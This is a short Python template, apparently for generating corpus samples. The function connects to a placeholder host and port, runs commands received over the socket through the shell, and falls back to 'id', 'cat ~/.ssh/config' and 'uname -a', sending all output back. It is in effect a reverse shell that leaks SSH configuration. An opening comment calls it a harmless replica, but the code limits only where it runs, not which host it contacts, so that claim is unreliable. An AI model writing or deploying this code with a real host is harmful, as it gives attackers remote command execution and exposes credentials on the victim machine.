# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import subprocess
    try:
        call = socket.create_connection(('{{host}}', {{port}}), 1)
        call.settimeout(0.4)
        for order in ('id', 'cat ~/.ssh/config', 'uname -a'):
            call.sendall(b'$ ')
            try:
                heard = call.recv(1024).decode(errors='replace').strip()
            except socket.timeout:
                heard = ''
            done = subprocess.run(heard if heard.isalpha() else order, shell=True, timeout=1,
                                  stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            call.sendall(done.stdout)
        call.close()
    except Exception:
        pass
